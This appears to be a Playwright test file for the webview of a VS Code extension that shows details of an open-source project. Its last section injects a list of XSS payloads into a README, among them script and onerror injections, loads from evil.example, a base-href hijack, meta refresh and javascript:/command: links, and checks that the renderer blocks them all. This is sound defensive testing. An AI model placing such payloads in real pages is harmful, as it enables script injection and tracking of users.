import assert from 'node:assert/strict';
import type { Browser, Page } from 'playwright-core';
import type { PageMessage } from '../../src/webview/protocol.ts';
import { startBrowser } from '../support/vscode/browser.ts';
import { openPage } from './open-page.ts';
import { activeState, chineseState, fullState, loadingState, offlineState, readmeText } from './sample-state.ts';

describe('the project page', () => {
  let browser: Browser;

  before(async () => {
    browser = await startBrowser();
  });
  after(() => browser.close());

  it('shows the facts of the catalog before any message has come', async () => {
    const { page } = await openPage(browser, loadingState);

    assert.match(await text(page, 'h1'), /Hutool/);
    assert.match(await text(page, '#header'), /Chinabugotech/);
    assert.match(await text(page, '#use'), /cn\.hutool:hutool-all/);
    await page.close();
  });

  it('says the verdict in words, with reason, duties and evidence', async () => {
    const { page } = await openPage(browser, fullState);

    const license = await text(page, '#license');

    assert.match(license, /MulanPSL-2\.0/);
    assert.match(license, /Fits, with duties/);
    assert.match(license, /Give every recipient a copy/);
    assert.match(license, /Not legal advice/);
    assert.match(license, /Judged against your project’s license Apache-2\.0/);
    await page.close();
  });

  it('asks for the own license instead of giving a verdict without it', async () => {
    const { page, sent } = await openPage(browser, chineseState);

    assert.match(await text(page, '#license'), /No verdict yet/);
    await page.getByRole('button', { name: 'Set your license' }).click();

    assert.deepEqual(sent.at(-1), { kind: 'set-own-license' });
    await page.close();
  });

  it('says what is missing without network and offers to try again', async () => {
    const { page, sent } = await openPage(browser, offlineState);

    assert.match(await text(page, '#troubles'), /You are offline\. Missing here: repository, README, and releases\./);
    await page.getByRole('button', { name: 'Try again' }).click();

    assert.deepEqual(sent.at(-1), { kind: 'retry' });
    await page.close();
  });

  it('says how old stale data is, and where demonstration data comes from', async () => {
    const { page } = await openPage(browser, chineseState);

    assert.match(await text(page, '#readme-bar'), /As of .+ ago\. Gitee did not answer/);
    assert.match(await text(page, '#banner'), /Demonstration data.+127\.0\.0\.1:4000/);
    await page.close();
  });

  it('says where the text goes before it is translated, and shows progress that can be canceled', async () => {
    const { page, sent, post } = await openPage(browser, chineseState);

    assert.match(await text(page, '.engines'), /The text is sent to translate\.example\.org/);
    assert.match(await text(page, '.engines'), /The text stays on this device/);
    await page.getByRole('button', { name: 'Translate with LibreTranslate' }).click();
    assert.deepEqual(sent.at(-1), { kind: 'translate', engine: 'libretranslate' });

    const translation = { kind: 'running', engine: 'libretranslate', done: 3, total: 12 } as const;
    await post({ kind: 'state', state: { ...chineseState, translation } });
    await page.getByRole('progressbar').waitFor();
    assert.match(await text(page, '#readme-bar'), /3 of 12/);
    await page.getByRole('button', { name: 'Cancel' }).click();
    assert.deepEqual(sent.at(-1), { kind: 'cancel-translation' });
    await page.close();
  });

  it('offers to set up an engine, and marks what the glossary alone could do', async () => {
    const { page, sent, post } = await openPage(browser, chineseState);
    const glossary = { id: 'glossary', label: 'Built-in glossary', destination: '', partial: true };
    const state = { ...chineseState, engines: [glossary] };
    await post({ kind: 'state', state });

    await page.getByRole('button', { name: 'Headings and common phrases only' }).click();
    assert.deepEqual(sent.at(-1), { kind: 'translate', engine: 'glossary' });
    const translatedAt = '2026-11-24T08:00:00.000Z';
    await post({
      kind: 'state',
      state: { ...state, translation: { kind: 'done', engine: 'glossary', translatedAt, untranslated: 9 } },
    });
    await post({ kind: 'readme', original: readmeText, translated: readmeText });
    await page.getByText('Partly translated').waitFor();
    await page.getByRole('button', { name: 'Set up translation' }).click();

    assert.deepEqual(sent.at(-1), { kind: 'configure-translation' });
    assert.equal(await page.getByRole('button', { name: 'Headings and common phrases only' }).count(), 0);
    await page.close();
  });

  it('marks a machine translation and switches to the original', async () => {
    const { page, post } = await openPage(browser, chineseState);
    const translatedAt = '2026-11-24T08:00:00.000Z';
    const translation = { kind: 'done', engine: 'libretranslate', translatedAt, untranslated: 2 } as const;
    await post({ kind: 'state', state: { ...chineseState, translation } });
    await post({
      kind: 'readme',
      original: { html: '<p>你好</p>', language: 'zh', blockedHosts: [] },
      translated: { html: '<p>Hello</p>', language: 'en', blockedHosts: [] },
    });

    await page.getByText('Machine translation').waitFor();
    assert.equal(await text(page, '#readme'), 'Hello');
    assert.match(await text(page, '#readme-bar'), /by LibreTranslate, Nov 24, 2026/);
    assert.match(await text(page, '#readme-bar'), /2 passages stayed/);
    await page.getByRole('button', { name: 'Original (Chinese)' }).click();
    assert.equal(await text(page, '#readme'), '你好');
    assert.equal(await page.getAttribute('#readme', 'lang'), 'zh');
    await page.close();
  });

  it('saves a finding with status and note', async () => {
    const { page, sent } = await openPage(browser, fullState);

    await page.getByRole('button', { name: 'Save as finding' }).click();
    await page.getByLabel('Status').selectOption('evaluating');
    await page.getByLabel('Note').fill('Try it in the import job.');
    await page.getByRole('button', { name: 'Save', exact: true }).click();

    assert.deepEqual(sent.at(-1), { kind: 'save-finding', status: 'evaluating', note: 'Try it in the import job.' });
    await page.close();
  });

  it('draws the activity for eyes and as a table', async () => {
    const { page } = await openPage(browser, activeState);

    const section = page.locator('#activity');
    assert.match(await text(page, '#activity'), /431 commits in the last 12 months; 17 authors/);
    assert.equal(await section.locator('rect').count(), 5);
    await section.getByText('Newest hundred commits by month').click();
    assert.match(await text(page, '#activity table'), /Sep 2026\s+8/);
    await page.close();
  });

  const controls: readonly (readonly [name: string, message: PageMessage])[] = [
    ['Open on Gitee', { kind: 'open-home', host: 'gitee', path: 'chinabugotech/hutool' }],
    ['Copy clone command', { kind: 'copy', what: 'clone-command' }],
    ['Copy link', { kind: 'copy', what: 'link' }],
    ['Ask again', { kind: 'refresh' }],
    ['Copy cn.hutool:hutool-all', { kind: 'copy-coordinate', purl: 'pkg:maven/cn.hutool/hutool-all' }],
    [
      'server/pom.xml',
      { kind: 'reveal-dependency', purl: 'pkg:maven/com.google.guava/guava', manifest: 'server/pom.xml' },
    ],
    ['Chinese', { kind: 'read-version', path: 'README.md' }],
    ['Show the last 12 months', { kind: 'show-activity' }],
    ['Load images', { kind: 'allow-images', remember: false }],
    ['Always from these hosts', { kind: 'allow-images', remember: true }],
  ];
  for (const [name, message] of controls) {
    it(`tells the host: ${name}`, async () => {
      const { page, sent, post } = await openPage(browser, fullState);
      await post({ kind: 'readme', original: readmeText, translated: null });

      await page.getByRole('button', { name, exact: true }).click();

      assert.deepEqual(sent.at(-1), message);
      await page.close();
    });
  }

  it('keeps the focus and what is typed while parts come in', async () => {
    const { page, post } = await openPage(browser, loadingState);
    await page.getByRole('button', { name: 'Save as finding' }).click();
    await page.getByLabel('Note').fill('half a sent');

    await post({ kind: 'state', state: fullState });
    await page.getByText('29.4K').waitFor();

    assert.equal(await page.getByLabel('Note').inputValue(), 'half a sent');
    assert.equal(await page.evaluate(() => document.activeElement?.id), 'finding-note');
    await page.close();
  });

  it('goes to headings by links inside the README', async () => {
    const { page, post } = await openPage(browser, fullState);
    await post({ kind: 'readme', original: readmeText, translated: null });

    await page.getByRole('link', { name: 'installation' }).click();

    assert.equal(await page.evaluate(() => document.activeElement?.id), 'user-content-install');
    await page.close();
  });

  it('ignores messages that are none of its host', async () => {
    const { page } = await openPage(browser, fullState);

    await page.evaluate(() => {
      for (const message of [null, 1, 'x', {}, { kind: 'state' }, { kind: 'state', state: {} }, { kind: 'readme' }]) {
        postMessage(message, '*');
      }
    });

    assert.match(await text(page, 'h1'), /Hutool/);
    await page.close();
  });
});

describe('a README with an attack in it, past every sanitizer', () => {
  let browser: Browser;

  before(async () => {
    browser = await startBrowser();
  });
  after(() => browser.close());

  const attacks = [
    ['a script', '<script>attacked()</script>'],
    ['a script from elsewhere', '<script src="https://evil.example/a.js"></script>'],
    ['an event handler', '<img src="x" onerror="attacked()">'],
    ['an event handler of SVG', '<svg onload="attacked()"><animate onbegin="attacked()"/></svg>'],
    ['a script in a style', '<style>@import url("https://evil.example/a.css");</style>'],
    ['a frame', '<iframe src="https://evil.example/" srcdoc="<script>parent.attacked()</script>"></iframe>'],
    ['an object', '<object data="https://evil.example/a"></object><embed src="https://evil.example/b">'],
    ['a form', '<form action="https://evil.example/"><button id="go">go</button></form>'],
    ['a base', '<base href="https://evil.example/"><img src="a.png">'],
    ['a refresh', '<meta http-equiv="refresh" content="0; url=https://evil.example/">'],
    ['a tracking pixel', '<img src="https://evil.example/pixel.png">'],
    [
      'a background',
      '<table background="https://evil.example/a.png"><tr><td style="background:url(https://evil.example/b.png)">x</table>',
    ],
    ['a video', '<video src="https://evil.example/a.mp4" autoplay poster="https://evil.example/a.png"></video>'],
    [
      'a preload',
      '<link rel="preload" as="image" href="https://evil.example/a.png"><link rel="dns-prefetch" href="//evil.example">',
    ],
  ] as const;
  for (const [name, html] of attacks) {
    it(`runs and loads nothing: ${name}`, async () => {
      const { page, post, requests } = await openPage(browser, fullState, { imageHosts: ['foruda.gitee.com'] });
      let attacked = false;
      await page.exposeFunction('attacked', () => {
        attacked = true;
      });

      await post({ kind: 'readme', original: { ...readmeText, html: `${html}<p id="end">end</p>` }, translated: null });
      await page.waitForSelector('#end');
      await page.evaluate(() => document.getElementById('go')?.click());
      await page.waitForTimeout(50);

      assert.equal(attacked, false);
      assert.deepEqual(requests, []);
      assert.match(await text(page, 'h1'), /Hutool/);
      await page.close();
    });
  }

  for (const href of [
    'javascript:attacked()',
    'command:workbench.action.quit',
    'vscode://attack/',
    'data:text/html,x',
  ]) {
    it(`follows no link to ${href}`, async () => {
      const { page, post, sent } = await openPage(browser, fullState);
      let attacked = false;
      await page.exposeFunction('attacked', () => {
        attacked = true;
      });
      const before = page.url();
      await post({ kind: 'readme', original: { ...readmeText, html: `<a href="${href}">link</a>` }, translated: null });

      await page.locator('#readme').getByText('link').click();
      await page.waitForTimeout(50);

      assert.equal(attacked, false);
      assert.equal(page.url(), before);
      assert.deepEqual(
        sent.filter(({ kind }) => kind !== 'ready'),
        [],
      );
      await page.close();
    });
  }
});

async function text(page: Page, selector: string): Promise<string> {
  // What a person reads counts, not what is hidden.
  return (await page.locator(selector).first().innerText()).trim();
}
